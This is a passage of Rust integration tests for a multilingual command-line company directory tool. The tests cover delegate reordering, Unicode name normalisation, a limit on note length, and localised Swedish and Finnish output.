    assert_eq!(line.trim(), "23.11.2026 10:00 (tester): prefers e-mail");

    // Reordering keeps a kept delegate's dates and topic.
    ok(d, &["delegate", "set", "Liisa Lehtonen", "Pekka Saarinen", "--company", "rakennus", "--topic", "palkat"]);
    ok(d, &["delegate", "add", "Liisa Lehtonen", "Anne Korhonen", "--company", "rakennus", "--position", "1"]);
    ok(d, &["delegate", "set", "Liisa Lehtonen", "Pekka Saarinen", "Anne Korhonen", "--company", "rakennus"]);
    let list = json_lines(&ok(d, &["delegate", "list", "Liisa Lehtonen", "--company", "rakennus", "--json"]));
    assert_eq!(list[0]["name"], "Pekka Saarinen");
    assert_eq!(list[0]["topic"], "palkat", "kept with its topic: {list:?}");
    assert_eq!(list[1]["topic"], Value::Null);
}

#[test]
fn cli_edits_go_through_the_same_door() {
    let dir = tempfile::tempdir().unwrap();
    let cli = |args: &[&str]| {
        common::bin(dir.path()).args(["--at", "2026-11-23T10:00:00+02:00"]).args(args).output().unwrap()
    };
    assert!(cli(&["company", "add", "--slug", "x", "--name", "X Oy"]).status.success());
    let out = cli(&["person", "add", "--company", "x", "--given", "Pa\u{0308}ivi", "--family", "Ze\u{200B}ro\u{202E}"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let shown = cli(&["person", "show", "Päivi Zero", "--company", "x"]);
    assert!(
        String::from_utf8_lossy(&shown.stdout).starts_with("Päivi Zero"),
        "{}",
        String::from_utf8_lossy(&shown.stdout)
    );
    let notes = "n".repeat(10_001);
    let refused = cli(&["person", "edit", "Päivi Zero", "--company", "x", "--notes", &notes]);
    assert!(!refused.status.success());
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("notes is 10,001 characters long") && stderr.len() < 300, "{stderr}");
}

/// Human output speaks the operator's language across commands: a card,
/// the calendars, a search, an incoming call (`--json` has values only).
#[test]
fn human_output_is_in_the_operators_language() {
    let dir = demo_dir();
    let d = dir.path();
    let sv = ok(d, &["--lang", "sv", "person", "show", "Maija Virtanen", "--company", "rakennus"]);
    assert!(sv.contains("Ersättare 1. Pekka Saarinen"), "{sv}");
    assert!(sv.contains("Borta ") && sv.contains("semester"), "{sv}");
    assert!(sv.contains("anknytning") || sv.contains("direktnummer"), "{sv}");
    for english in ["Covered by", "Away", "Roles", "e-mail", "extension"] {
        assert!(!sv.contains(english), "{english:?} in Swedish output: {sv}");
    }
    let fi = ok(d, &["--lang", "fi", "feed", "list", "--company", "rakennus"]);
    assert!(fi.contains("viimeksi luettu") && fi.contains("poissaoloa"), "{fi}");
    assert!(!fi.contains("last good sync") && !fi.contains("absences"), "{fi}");
    let fi = ok(d, &["--lang", "fi", "search", "koistinen", "--company", "rakennus"]);
    assert!(fi.contains("paikalla") || fi.contains("poissa") || fi.contains("varattu"), "{fi}");
    let fi = ok(d, &["--lang", "fi", "call", "--to", "+358 9 4321 000", "--from", "+358 40 999 9999"]);
    assert!(fi.contains("Soittaja: +358 40 999 9999, ei hakemistossa"), "{fi}");
    let sync = ok(d, &["sync", "--json"]);
    assert!(json_lines(&sync).iter().all(|r| r.get("error").is_none()), "--json has no English sentences: {sync}");
}
